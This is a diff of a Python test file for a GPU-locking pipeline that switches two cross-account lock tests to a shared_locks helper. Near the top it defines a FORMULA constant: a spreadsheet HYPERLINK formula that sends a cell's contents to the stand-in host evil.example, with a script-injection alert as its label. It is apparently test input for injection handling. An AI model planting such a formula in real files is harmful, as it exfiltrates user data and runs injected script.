@@ -30,7 +30,7 @@ from cs336sys.pipeline import cells, gpulock, hostjobs, warm, warmcheck
 from cs336sys.pipeline.cells import run_cell
 from cs336sys.pipeline.gpulock import GpuId
 from other_account import fork_as
-from test_gpulock_hostile import SRC, TESTS, _mkdir_open, as_user, make_cell, use_locks
+from test_gpulock_hostile import SRC, TESTS, _mkdir_open, as_user, make_cell, shared_locks, use_locks
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"<script>alert(1)</script>")'
 
@@ -187,8 +187,7 @@ def forger(other_user, shared_base):
 
 @pytest.mark.slow
 def test_forged_records_of_another_account_count_for_nothing_and_cost_nothing(other_user, shared_base, forger, fake_gpus, monkeypatch):
-    locks = use_locks(monkeypatch, shared_base / "locks")
-    gpulock.lock_dir()  # root's, sticky and world-writable: the directory every account shares
+    locks = shared_locks(monkeypatch, shared_base / "locks")  # root's, sticky and world-writable: the directory every account shares
     forger(locks, 500)
     with hostjobs.register_job(run="mine"):  # our own private directory: the other account cannot write there
         (own,) = {p.parent for p in _records(shared_base) if p.parent != locks}
@@ -219,8 +218,7 @@ def _hold_gpu_as_other(locks: str, ready: str) -> None:
 
 @pytest.mark.slow
 def test_another_accounts_job_on_another_gpu_of_this_host_counts_and_says_no_more(other_user, shared_base, fake_gpus, monkeypatch):
-    locks = use_locks(monkeypatch, shared_base / "locks")
-    gpulock.lock_dir()
+    locks = shared_locks(monkeypatch, shared_base / "locks")
     ready = shared_base / "holding"
     pid = fork_as(other_user, _hold_gpu_as_other, str(locks), str(ready))
     try:
